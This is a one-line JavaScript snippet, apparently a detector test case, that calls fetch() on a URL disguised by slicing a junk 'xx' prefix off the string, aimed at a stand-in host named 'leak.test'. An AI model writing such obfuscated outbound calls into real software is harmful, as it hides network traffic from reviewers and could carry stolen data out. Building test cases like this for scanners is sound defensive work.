fetch("xxhttps://js-fold-slice.leak.test/".slice(2))
